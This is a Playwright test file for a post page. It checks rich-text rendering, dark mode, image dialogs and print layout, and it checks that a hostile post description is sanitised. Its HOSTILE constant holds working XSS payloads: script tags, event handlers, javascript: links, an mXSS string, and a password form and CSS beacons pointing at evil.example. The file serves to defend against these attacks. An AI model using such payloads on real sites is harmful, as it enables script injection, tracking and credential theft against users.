import type { Page } from 'playwright-core';
import { TEXT_COLORS } from '../../src/contract/postHtml';
import { putDescription } from './support/backOffice';
import { button, eventually, link, text } from './support/screen';
import { openStage } from './support/stage';
import type { Scene } from './support/stage';

const { product, office, scene } = openStage();

const TITLE = 'မုန်တိုင်းသတိပေးချက်';
const FORMATTED =
  '<h1>ယခု</h1><p style="text-align:center">Stay <strong>indoors</strong></p>' +
  '<p><span style="color:#b3261e">Red</span> <a href="https://example.org/bulletin">more</a></p>' +
  `<pre>${'7.20 m '.repeat(60)}</pre><p>${'x'.repeat(400)}</p>`;
const HOSTILE = [
  '<script>window.hacked = 1</script>',
  '<img src="/none.png" onerror="window.hacked = 1">',
  '<img src="https://evil.example/pixel.png" alt="A map">',
  '<svg onload="window.hacked = 1"><style>@import "https://evil.example/a.css"</style></svg>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<video src="https://evil.example/x" autoplay poster="https://evil.example/y"></video>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<style>body { background: url(https://evil.example/b.png) }</style>',
  '<p style="background:url(https://evil.example/c.png);position:fixed;inset:0">Cover</p>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="https://evil.example/"><input name="password"><button>Send</button></form>',
  '<a href="javascript:window.hacked = 1">press</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1">',
].join('');

let formatted: number;
let hostile: number;

beforeAll(async () => {
  const categoryId = await office.makeCategory('မုန်တိုင်း');
  const fields = { title: TITLE, categoryId, tags: ['မိုး', 'လေ', 'Storm'], images: 2 };
  formatted = await office.makePost({ ...fields, description: FORMATTED });
  hostile = await office.makePost(fields);
  await putDescription(product, hostile, HOSTILE);
});

const title = (page: Page) => page.getByRole('heading', { level: 2, name: TITLE, exact: true });

async function openPost({ page, open }: Scene, id: number) {
  await open(`/posts/${id}`);
  await title(page).waitFor();
}

const styleOf = (page: Page, words: string, property: string) =>
  text(page, words).evaluate(
    (element, name) => getComputedStyle(element).getPropertyValue(name),
    property,
  );

const rgb = (hex: string) =>
  `rgb(${[1, 3, 5].map((at) => parseInt(hex.slice(at, at + 2), 16)).join(', ')})`;

test(
  'shows the formatted text, the facts, the cover and the images',
  scene(async (set) => {
    const { page } = set;
    await openPost(set, formatted);
    expect(await page.getByRole('definition').allTextContents()).toEqual([
      'မုန်တိုင်း',
      'မိုးလေStorm',
      'Post',
      expect.stringMatching(/^\d\d-\d\d-\d{4}$/),
    ]);
    expect(await styleOf(page, 'Stay indoors', 'text-align')).toBe('center');
    expect(await styleOf(page, 'Red', 'color')).toBe(rgb(TEXT_COLORS.red));
    await page.emulateMedia({ colorScheme: 'dark' });
    await eventually(async () =>
      expect(await styleOf(page, 'Red', 'color')).not.toBe(rgb(TEXT_COLORS.red)),
    );
    for (const name of ['Cover Photo', 'Image 1', 'Image 2']) {
      await button(page, name).click();
      const image = page.getByRole('dialog', { name, exact: true }).getByRole('img', { name });
      await eventually(async () =>
        expect(await image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(64),
      );
      await page.keyboard.press('Escape');
      await page.getByRole('dialog').waitFor({ state: 'detached' });
    }
  }),
);

test(
  'runs no script of a hostile description and requests nothing from other hosts',
  scene(async (set) => {
    const { page, faults } = set;
    faults.announce(/404.*none\.png/);
    const asked: string[] = [];
    page.on('request', (request) => asked.push(new URL(request.url()).origin));
    await openPost(set, hostile);
    await text(page, 'Cover').click();
    await text(page, 'press').click();
    await page.getByText('A map').waitFor();
    await set.open('/posts');
    await page.getByRole('row').filter({ hasText: 'Cover' }).waitFor();
    await page.goBack();
    await title(page).waitFor();
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(await page.locator('article').locator('script, iframe, form, [style]').count()).toBe(0);
    expect([...new Set(asked)]).toEqual([product.origin]);
  }),
);

test(
  'prints only the post',
  scene(async (set) => {
    const { page } = set;
    await openPost(set, formatted);
    await page.emulateMedia({ media: 'print' });
    await text(page, 'Red').waitFor();
    for (const name of ['Main', 'Breadcrumb']) {
      expect(await page.getByRole('navigation', { name }).isVisible()).toBe(false);
    }
    expect(await link(page, 'Edit').isVisible()).toBe(false);
    expect(await page.getByRole('contentinfo').isVisible()).toBe(false);
  }),
);
